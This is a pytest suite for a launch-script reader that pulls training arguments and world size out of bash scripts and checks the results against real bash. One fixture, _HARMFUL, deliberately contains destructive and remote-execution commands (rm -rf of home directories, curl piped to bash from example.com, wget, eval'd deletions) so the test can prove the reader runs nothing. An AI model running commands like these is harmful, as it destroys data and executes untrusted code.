"""The launch-script reader agrees with bash: each fixture (and hundreds of generated scripts) runs
under real bash with stub launchers that log their argv, and the reader must extract the same
command and world size, without running anything itself."""

from __future__ import annotations

import functools
import os
import re
import shutil
import subprocess
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from inspector.errors import ConfigError, InputError
from inspector.inputs.launch import data_parallel_from_world
from inspector.inputs.sources import interpret_launch, parse_launch_script, read_launch_script
from inspector.inputs.versions import null_tokenizer_adds_eod

BASH_FIXTURES = Path(__file__).resolve().parent.parent / "fixtures" / "scripts" / "bash"
FIXTURES = sorted(BASH_FIXTURES.glob("*.sh")) + [BASH_FIXTURES.parent / "llama3_8b.sh"]
BASH = shutil.which("bash")
pytestmark = pytest.mark.skipif(BASH is None, reason="bash is not installed")

_STUB = """#!/bin/sh
{ printf '%s\\n' "@@launch $(basename "$0")"; for a in "$@"; do printf '%s\\n' "$a"; done
  printf '@@end\\n'; } >> "$ARGV_LOG"
"""
STUB_NAMES = ("torchrun", "python", "python3", "deepspeed", "srun", "mpirun")
# `uv run CMD` runs CMD; sbatch runs the job script it reads on its input (a here-document)
_PASSING = {"uv": '#!/bin/sh\nshift\nexec "$@"\n', "sbatch": "#!/bin/sh\nexec bash\n"}


@pytest.fixture(scope="module")
def stubs(tmp_path_factory):
    """A folder of stub launchers that print their argv, one per line, to $ARGV_LOG."""
    folder = tmp_path_factory.mktemp("stubs")
    for name in (*STUB_NAMES, *_PASSING):
        path = folder / name
        path.write_text(_PASSING.get(name, _STUB))
        path.chmod(0o755)
    return folder


def run_bash(script: Path, stubs: Path, workdir: Path, env: dict[str, str]) -> list[list[str]]:
    """Run `script` under real bash with the stubs first on PATH; return each launch's argv."""
    log = workdir / "argv.log"
    log.write_text("")
    environment = {"PATH": f"{stubs}:/usr/bin:/bin", "ARGV_LOG": str(log), **env}
    subprocess.run([BASH, str(script)], cwd=workdir, env=environment, check=False, timeout=20,
                   stdin=subprocess.DEVNULL, capture_output=True)  # fmt: skip
    launches: list[list[str]] = []
    recording = False
    for line in log.read_text().split("\n"):
        if line.startswith("@@launch "):
            launches.append([line.split(" ", 1)[1]])
            recording = True
        elif line == "@@end":
            recording = False
        elif recording:
            launches[-1].append(line)
    return launches


def _header(script: Path, key: str) -> str | None:
    match = re.search(rf"^# {key}: ?(.*)$", script.read_text(), re.M)
    return match.group(1) if match else None


@functools.cache
def _torchrun_parser() -> Any:
    from torch.distributed import run

    return run.get_args_parser()


def torch_world(argv: list[str]) -> int | None:
    """World size by torch's own torchrun argument parser, for an observed torchrun command."""
    from torch.distributed import launch

    words, parse = argv[1:], _torchrun_parser().parse_args
    if argv[0].startswith("python"):
        module = words[words.index("-m") + 1]
        parse = launch.parse_args if module.endswith("launch") else parse
        words = words[words.index("-m") + 2 :]
    elif argv[0] != "torchrun":
        return None
    args = parse(words)
    nnodes = args.nnodes.split(":")
    assert len(set(nnodes)) == 1
    return int(args.nproc_per_node) * int(nnodes[0])


def _observed(argv: tuple[str, ...]) -> list[str]:
    return [os.path.basename(argv[0]), *argv[1:]]


@pytest.mark.parametrize("script", FIXTURES, ids=[path.stem for path in FIXTURES])
def test_fixture_agrees_with_bash(script, stubs, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)  # $PWD and `pwd`: the folder the job starts in, for both
    given_settings = dict(
        item.split("=", 1) for item in (_header(script, "settings") or "").split() if item
    )
    launches = run_bash(script, stubs, tmp_path, given_settings)
    assert launches, f"bash ran no launcher for {script.name}"
    parsed = read_launch_script(str(script), given_settings)
    assert all(argv == launches[0] for argv in launches)
    assert _observed(parsed.launch) == launches[0]
    expected = _header(script, "expect-world")
    assert parsed.world_size == (int(expected) if expected and expected != "none" else None)
    if "torch.distributed" in " ".join(launches[0]) or launches[0][0] == "torchrun":
        assert parsed.world_size == torch_world(launches[0])


def test_megatron_shaped_llama_fp8_arguments():
    parsed = read_launch_script(str(BASH_FIXTURES / "megatron_llama3_fp8.sh"))
    # "--vocab-size 128256" was one array element: split when the array is expanded unquoted;
    # NullTokenizer adds its end-of-document token up to megatron-core 0.17 (tests/test_versions.py)
    assert parsed.args["vocab_size"] == 128256 + null_tokenizer_adds_eod()
    assert parsed.args["num_layers"] == 32 and parsed.args["use_distributed_optimizer"] is True
    assert "--tokenizer-type" not in parsed.ignored
    # --fp8-format and fp8 parameters are modelled (tests/test_fp8.py, tests/test_fp8_params.py)
    assert not parsed.refused and parsed.args["fp8_param_gather"] is True
    assert parsed.args["fp8_format"] == "hybrid" and parsed.args["fp8_amax_history_len"] == 1024


def test_issue_examples():
    arrays = """A=( --num-layers 4 --hidden-size 256 --num-attention-heads 4 )
A+=( --vocab-size 1000 --tensor-model-parallel-size 2 )
B=( "--seq-length 512" )
torchrun pretrain_gpt.py ${A[@]} ${B[@]}
"""
    parsed = parse_launch_script(arrays, "s.sh")
    assert parsed.args["vocab_size"] == 1000 and parsed.args["seq_length"] == 512
    branches = """SIZE=small
if [ "$SIZE" = small ]; then L=4; H=256; elif [ "$SIZE" = big ]; then L=8; H=512; fi
torchrun pretrain_gpt.py --num-layers $L --hidden-size $H --num-attention-heads 4
"""
    parsed = parse_launch_script(branches, "s.sh")
    assert (parsed.args["num_layers"], parsed.args["hidden_size"]) == (4, 256)


# ------------------------------------------------------------------------------ errors


@pytest.mark.parametrize(
    "text, message",
    [
        # a condition on a command's output: only running it would tell
        ('S=$(hostname)\nif [ "$S" = big ]; then L=8; else L=4; fi\npython t.py --num-layers $L\n',
         "s.sh line 2: a value in the condition `$S = big` is $S, set on line 1 from $(hostname), "
         "which the reader never runs; give it with --set S=VALUE"),
        # a positional parameter used as a modelled value
        ("python t.py --num-layers $1\n",
         "s.sh line 1: --num-layers is $1, which the script gets from its command line; give it "
         "with --set 1=VALUE (positional parameters are --set 1=..., 2=...)"),
        # command output inline
        ("python t.py --num-layers $(cat n)\n",
         "s.sh line 1: --num-layers is $(cat n), which the reader never runs; give the value "
         "with its own flag instead"),
        # a word in flag position from a command's output could hold any flag
        ("python t.py --num-layers 2 $(cat extra)\n",
         "s.sh line 1: an argument of the training command is $(cat extra), which the reader "
         "never runs; give the value with its own flag instead"),
        # arithmetic on an unset variable reads 0, as in bash; where it reaches the model it is missing
        ("N=$((NODES*8))\npython t.py --num-layers $N\n",
         "s.sh line 2: --num-layers is $((NODES*8)), where $NODES is a value which the script "
         "never sets; give it with --set NODES=VALUE"),
        # a file test that is not about a file being there
        ("if [ -L cfg.sh ]; then X=1; fi\n",
         "s.sh line 1: the condition `-L cfg.sh` tests the file system (-L), which the reader "
         "does not look at (the job's machine decides it)"),
        # two different launches
        ("python a.py --num-layers 2\ntorchrun b.py --num-layers 4\n",
         "s.sh: the script runs two different training commands, s.sh line 1 (python a.py "
         "--num-layers 2) and s.sh line 2 (torchrun b.py --num-layers 4); keep one"),
        # ${V:?} stops bash
        ("python t.py --num-layers ${L:?need L}\n",
         "s.sh line 1: ${L:?need L} stops the script when L is not set, and the script never "
         "sets it; give it with --set L=VALUE"),
        ('echo "open\n', "s.sh line 1: a double quote is not closed"),
        ("if true; then\n", "s.sh line 2: the `if` of line 1 is not closed with `fi`"),
        # the reader splits on blanks; another IFS would split differently
        ("IFS=,\n", "s.sh line 1: the script changes IFS; the reader splits words on blanks only"),
        ("source missing.sh\n", "s.sh line 1: `source missing.sh` reads missing.sh, which is "
                                "not a file next to the script"),
        ("torchrun --nnodes $N t.py\n", "s.sh line 1: torchrun's node count is $N, which the "
                                        "script never sets; give it with --set N=VALUE"),
    ],
)  # fmt: skip
def test_reader_errors(text, message, tmp_path):
    with pytest.raises(InputError) as error:
        parse_launch_script(text, str(tmp_path / "s.sh") if "source" in text else "s.sh")
    assert str(error.value).replace(str(tmp_path / "s.sh"), "s.sh") == message


def test_settings_give_the_environment_and_positional_parameters():
    text = 'if [ "$SIZE" = big ]; then L=8; else L=4; fi\npython t.py --num-layers $L --seed $1\n'
    parsed = parse_launch_script(text, "s.sh", {"SIZE": "big", "1": "7"})
    assert parsed.args["num_layers"] == 8
    assert "--seed" in parsed.ignored


@pytest.mark.parametrize(
    "text, world, origin",
    [
        ("torchrun --nnodes 1:4 --nproc_per_node 8 t.py\n", None, "is elastic (1 to 4 nodes)"),
        ("torchrun --nnodes=2:2 --nproc_per_node=8 t.py\n", 16, "torchrun"),
        ("torchrun --nproc_per_node gpu t.py\n", None, "takes the GPU count from the job"),
        ("deepspeed t.py\n", None, "uses every GPU it finds"),
        # srun(1): --ntasks defaults to the node count, one task per node
        ("srun -N2 python t.py\n", 2, "srun -N 2, one task per node as srun runs it"),
        ("#SBATCH --nodes=3\nsrun python t.py\n", 3, "one task per node"),
        ("srun python t.py\n", None, "takes its task count from the job's allocation"),
        ("srun --ntasks=24 python t.py\n", 24, "srun --ntasks 24"),
        ("mpirun -np 16 python t.py\n", 16, "mpirun -np 16"),
        ("WORLD_SIZE=8 python t.py\n", 8, "WORLD_SIZE=8"),
        # srun inside an sbatch job takes the counts its #SBATCH lines ask for
        ("#!/bin/bash\n#SBATCH --nodes=2\n#SBATCH --ntasks-per-node=8 # one per GPU\n\n"
         "srun python t.py\n", 16, "srun with #SBATCH --nodes 2 --ntasks-per-node 8"),
        ("#SBATCH -N 4\nsrun --ntasks-per-node 2 python t.py\n", 8,
         "srun --ntasks-per-node 2 with #SBATCH -N 4"),
        ("echo hi\n#SBATCH -N 4\nsrun --ntasks-per-node 2 python t.py\n", None,
         "takes its task count"),  # sbatch stops reading #SBATCH at the first command
        ("WORLD_SIZE=8\npython t.py\n", None, "python starts one process"),  # not exported
    ],
)
def test_world_size(text, world, origin):
    parsed = parse_launch_script(text, "s.sh")
    assert parsed.world_size == world
    assert origin in parsed.world_origin


def test_data_parallel_from_world():
    assert data_parallel_from_world(32, 2, 2, 2, "torchrun") == 4
    with pytest.raises(ConfigError) as error:
        data_parallel_from_world(12, 8, 1, 1, "torchrun --nproc_per_node 12 (s.sh line 3)")
    assert str(error.value) == (
        "world size 12 (from torchrun --nproc_per_node 12 (s.sh line 3)) is not divisible by "
        "--tp 8 x --pp 1 x --cp 1 = 8 (12 % 8 = 4), which Megatron-LM requires "
        "(world_size % (tp*pp*cp) == 0)"
    )


# ----------------------------------------------------------------------- no side effects

_HARMFUL = """#!/bin/bash
set -euo pipefail
rm -rf {root}/keep
rm -rf "$HOME_DIR"/*
mkdir -p {root}/made
touch {root}/touched
echo data > {root}/written
echo more >> {root}/keep/appended
cat <<EOF > {root}/heredoc
--num-layers 99
EOF
curl -sSL https://example.com/install.sh | bash
wget -O {root}/downloaded https://example.com/x
sbatch --wrap "rm -rf {root}"
cp -r {root}/keep {root}/copy && mv {root}/keep {root}/moved
python -c "import os; os.remove('{root}/keep/file')"
( cd {root} && rm -f keep/file ) &
eval "rm -rf {root}/keep"
bash -c "touch {root}/child"
HOME_DIR={root}
exec > {root}/log 2>&1
torchrun pretrain_gpt.py --num-layers 2 --hidden-size 64 --num-attention-heads 4 > {root}/out
"""


def _snapshot(folder: Path) -> dict[str, bytes]:
    return {str(p.relative_to(folder)): p.read_bytes() if p.is_file() else b"<dir>"
            for p in sorted(folder.rglob("*"))}  # fmt: skip


def test_reading_has_no_side_effects(tmp_path, monkeypatch):
    root = tmp_path / "machine"
    (root / "keep").mkdir(parents=True)
    (root / "keep" / "file").write_text("precious")
    script = tmp_path / "harmful.sh"
    script.write_text(_HARMFUL.format(root=root))
    monkeypatch.chdir(root)
    before, cwd_before = _snapshot(tmp_path), sorted(os.listdir(root))
    # `set -u` stops bash at "$HOME_DIR" unset (line 4): given, `rm -rf` would empty the machine
    parsed = read_launch_script(str(script), {"HOME_DIR": str(root)})
    assert parsed.args == {"num_layers": 2, "hidden_size": 64, "num_attention_heads": 4}
    assert _snapshot(tmp_path) == before and sorted(os.listdir(root)) == cwd_before


# --------------------------------------------------------------------- generated scripts

_VALUES = ["--num-layers", "4", "a b", " lead", "trail ", "x-y", "", "--flag", "two  spaces",
           "--hidden-size 64", "q'uote", 'd"q']  # fmt: skip
_NAMES = ["V1", "V2", "V3"]
_NUMS = ["N1", "N2"]
_ARRAYS = ["A1", "A2"]


def _quote(value: str) -> str:
    return "'" + value.replace("'", "'\\''") + "'"


def _each(template: str, *pools: list[str]) -> st.SearchStrategy[str]:
    """Fill `template`'s {0}, {1}, ... from the pools."""
    return st.tuples(*(st.sampled_from(pool) for pool in pools)).map(lambda t: template.format(*t))


_QUOTED = [_quote(value) for value in _VALUES]
_value = st.one_of(
    st.sampled_from(_QUOTED),
    st.sampled_from(['"' + v.replace('"', "") + '"' for v in _VALUES]),
    _each("${0}", _NAMES), _each('"${0}"', _NAMES), _each("${{{0}}}x", _NAMES),
    _each('"pre ${0} post"', _NAMES), _each("${{UNSET_X:-{0}}}", _QUOTED),
    _each("${{{0}-dflt}}", _NAMES), _each("${{{0}:+alt}}", _NAMES), _each("${{{0}:-dflt}}", _NAMES),
    _each("$(({0}*3+1))", _NUMS), _each("$(( {0} % 2 ))", _NUMS), _each('"${{{0}[*]}}"', _ARRAYS),
    _each("${{#{0}}}", _NAMES), _each("${{{0}%% *}}", _NAMES), _each("${{{0}#*-}}", _NAMES),
    st.just("$'tab\\there'"),
)  # fmt: skip
_element = st.one_of(
    st.sampled_from(_QUOTED), _each("${0}", _NAMES), _each('"${0}"', _NAMES),
    _each('"${{{0}[@]}}"', _ARRAYS), _each("${{{0}[@]}}", _ARRAYS), st.just("--bf16"),
    _each("$(({0}+1))", _NUMS), st.sampled_from(["{x,y}z", "p{1..3}"]),
    _each('"${{{0}[@]:1}}"', _ARRAYS), _each("${{{0}^^}}", _NAMES),
)  # fmt: skip


@st.composite
def _statement(draw, depth: int = 0) -> str:
    name = draw(st.sampled_from(_NAMES))
    array = draw(st.sampled_from(_ARRAYS))
    num = draw(st.sampled_from(_NUMS))
    elements = " ".join(draw(st.lists(_element, max_size=4)))
    kinds = ["assign", "append", "array", "array_append", "export", "arith"]
    if depth < 2:
        kinds += ["if", "case", "function", "for"]
    kind = draw(st.sampled_from(kinds))
    if kind == "assign":
        return f"{name}={draw(_value)}"
    if kind == "append":
        return f"{name}+={draw(_value)}"
    if kind == "array":
        return f"{array}=( {elements} )"
    if kind == "array_append":
        return f"{array}+=(\n  {elements}\n)"
    if kind == "export":
        return f"export {name}={draw(_value)}"
    if kind == "arith":
        return f"{num}=$(( ({num} + {draw(st.integers(0, 9))}) % 7 + 1 ))"
    inner = draw(_statement(depth + 1))
    other = draw(_statement(depth + 1))
    if kind == "if":
        test = draw(st.sampled_from([
            f'[ "${name}" = {_quote(draw(st.sampled_from(_VALUES)))} ]', f"[ ${num} -gt 3 ]",
            f'[[ -z "${name}" ]]', f"[[ ${num} -le 2 && -n \"${name}\" ]]", f"(( {num} % 2 ))",
            f'test "${name}" != x',
        ]))  # fmt: skip
        return f"if {test}; then\n  {inner}\nelif [ ${num} -eq 1 ]; then {other}\nelse\n  :\nfi"
    if kind == "case":
        return f'case "${name}" in\n  *a*|x-y) {inner} ;;\n  "") {other} ;;\n  *) : ;;\nesac'
    if kind == "function":
        return f'f() {{\n  local L=$1\n  {inner}\n  {name}+="$L"\n}}\nf {_quote("arg")}'
    return f"for item in 1 2; do\n  {inner}\ndone"


@st.composite
def _script(draw) -> str:
    lines = [f"{n}={_quote(draw(st.sampled_from(_VALUES)))}" for n in _NAMES]
    lines += [f"{n}={draw(st.integers(1, 4))}" for n in _NUMS]
    values = st.lists(st.sampled_from(_VALUES).map(_quote), max_size=3)
    lines += [f"{a}=( {' '.join(draw(values))} )" for a in _ARRAYS]
    statements = draw(st.lists(_statement(), min_size=1, max_size=8))
    lines += [f"{line}  # note: $X 'q" if draw(st.booleans()) else line for line in statements]
    args = " ".join(draw(st.lists(_element, min_size=1, max_size=6)))
    launch = "torchrun --nproc_per_node $N1 --nnodes=$N2 pretrain_gpt.py"
    lines.append(draw(st.sampled_from([
        f"{launch} {args}",
        f'CMD="{launch} ${draw(st.sampled_from(_NAMES))}"\n$CMD {args}',
        f"eval \"{launch} \\${{{draw(st.sampled_from(_ARRAYS))}[@]}}\"",
        f"python pretrain_gpt.py \\\n  {args}",
        f"export N1 N2\nbash -c '{launch} --seed \"$N1\"'",
    ])))  # fmt: skip
    return "\n".join(lines) + "\n"


@pytest.mark.slow
@settings(max_examples=200, deadline=None, derandomize=True,
          suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
@given(text=_script())
def test_generated_scripts_agree_with_bash(text, stubs, tmp_path):  # fmt: skip
    workdir = tmp_path / "gen"
    workdir.mkdir(exist_ok=True)
    script = workdir / "gen.sh"
    script.write_text(text)
    launches = run_bash(script, stubs, workdir, {})
    assert len(launches) == 1, text
    launch, world, _ = interpret_launch(text, str(script))
    assert _observed(launch.observed) == launches[0], text
    if launches[0][0] == "torchrun":
        assert world.size == torch_world(launches[0]), text


@pytest.mark.parametrize(
    "text, message",
    [
        ("f() { f; }\nf\n", "s.sh line 1: the function f calls itself too deeply"),
        ("A=x\nwhile true; do A+=$A; done\n", "s.sh line 2: A grows past 1048576 characters"),
        ("A=(x)\nwhile true; do A+=(${A[@]}); done\n",
         "s.sh line 2: the array A grows past 16384 elements or 1048576 characters"),
        ("while true; do :; done\n", "s.sh line 1: a loop ran 10000 times; the reader stops there"),
        ("source /dev/zero\n",
         "s.sh line 1: `source /dev/zero` reads /dev/zero, which is not a file next to the script"),
    ],
)  # fmt: skip
def test_runaway_scripts_stop_quickly(text, message):
    """Scripts that would run forever or fill memory are refused within a fraction of a second."""
    with pytest.raises(InputError) as error:
        parse_launch_script(text, "s.sh")
    assert str(error.value) == message


_SHELL_BITS = list("abX_=-+ \t\n\"'$(){}[]|&;<>#\\`*?!~:%/@,.019") + [
    "torchrun t.py ", "--nnodes ", "--num-layers ", "srun -N ", "$((", "${", "if ", "then ",
    "fi", "case ", " in ", "esac", ";;", "do ", "done", "for ", "while ", "A=(", "<<E\n", "E\n",
    "[[ ", " ]]", "[ ", " ]", "eval ", "bash -c ", "source ", "$'", "f() {", "}", "((", "))",
]  # fmt: skip


@settings(max_examples=300, deadline=None, derandomize=True)
@given(text=st.lists(st.sampled_from(_SHELL_BITS), max_size=40).map("".join))
def test_any_text_is_read_or_refused_cleanly(text):
    """Whatever the text, the reader answers or raises one of the tool's errors: no traceback."""
    try:
        parse_launch_script(text, "s.sh")
    except (InputError, ConfigError):
        pass


def test_unset_values_in_pure_commands_and_bash_c():
    # `$(basename "$ENV_CONFIG")` of an unset variable is empty in bash, so the condition is
    # false, with the one note for the unset variable; `bash -c` runs although PYTHONPATH is unset.
    parsed = read_launch_script(str(BASH_FIXTURES / "unset_paths.sh"))
    assert parsed.args["num_layers"] == 4
    assert parsed.world_size == 16
    assert any("$ENV_CONFIG is not set, so it reads as empty" in note for note in parsed.notes)


def test_pure_command_of_an_unset_value_stays_missing_for_the_model(tmp_path):
    path = tmp_path / "s.sh"
    path.write_text('L=$(basename "$LAYERS")\ntorchrun --nproc_per_node 1 pretrain_gpt.py '
                    "--num-layers $L --hidden-size 64 --num-attention-heads 4\n")  # fmt: skip
    with pytest.raises(InputError, match=r"--set LAYERS=VALUE"):
        read_launch_script(str(path))


def test_a_placeholder_to_fill_in_is_a_syntax_error_as_in_bash():
    # Megatron-LM's sc21 CONFIG.sh shape: `export X=<...>` is a redirection with no target
    text = ("export SLURM_PARTITION=<slurm partition, used to feed -p option in slurm>\n"
            "python pretrain_gpt.py --num-layers 2\n")  # fmt: skip
    with pytest.raises(InputError, match=r"s.sh line 1: a redirection `>` has no target, a syntax "
                                         r"error to bash too \(is a placeholder"):  # fmt: skip
        parse_launch_script(text, "s.sh")


# issue #46: a word with a quoted part is one word even where it expands to nothing ("$UNSET",
# ""$UNSET, $UNSET'', ''); an unquoted expansion that is empty is removed. Real bash gives the truth.
_EMPTY_WORDS = ['""$UNSET', '"$UNSET"', '$UNSET""', "''$UNSET", "$''$UNSET", '"${UNSET}"', "''",
                '""', '$UNSET', '$EMPTY', '"$EMPTY"', '""$EMPTY', "$EMPTY''", '"${UNSET:-}"',
                '${UNSET:-""}', '"${UNSET:-$EMPTY}"', "${UNSET:-''}", '${EMPTY:+x}', '"${EMPTY:+x}"',
                '${UNSET:+""}', '$UNSET$EMPTY', '"$UNSET$EMPTY"', '"$EMPTY"$UNSET', '${UNSET}""${EMPTY}',
                '"${A[@]}"', '${A[@]}', '"${A[@]}"""', '"${A[*]}"', '""${A[@]}', '"${E[@]}"', '$E',
                '"$E"', '"${UNSET//a/b}"', '""${UNSET:0:1}', '"$UNSET" "" $UNSET', 'x"$UNSET"']  # fmt: skip


@pytest.mark.parametrize("word", _EMPTY_WORDS)
def test_empty_words_are_kept_or_removed_as_bash_does(word):
    text = f'EMPTY=""\nA=()\nE=("")\ntorchrun t.py --num-layers 2 --data-path {word}\n'
    truth = subprocess.run([BASH, "-c", text.replace("torchrun t.py", "printf '[%s]'")],
                           capture_output=True, text=True, check=True, env={}).stdout  # fmt: skip
    parsed = parse_launch_script(text, "s.sh")
    assert "".join(f"[{w}]" for w in parsed.launch[2:]) == truth


def test_a_function_gets_the_empty_words_bash_gives_it():
    # `f "$UNSET"`: $1 is one empty word, which `$1` unquoted removes and `"$1"` keeps
    text = ('f() { torchrun t.py --num-layers 2 --data-path a $1 "$2" "$@"; }\n'
            'f "$UNSET" "$UNSET"\n')  # fmt: skip
    truth = subprocess.run([BASH, "-c", text.replace("torchrun t.py", "printf '[%s]'")],
                           capture_output=True, text=True, check=True, env={}).stdout  # fmt: skip
    assert truth == "[--num-layers][2][--data-path][a][][][]"
    parsed = parse_launch_script(text, "s.sh")
    assert "".join(f"[{w}]" for w in parsed.launch[2:]) == truth
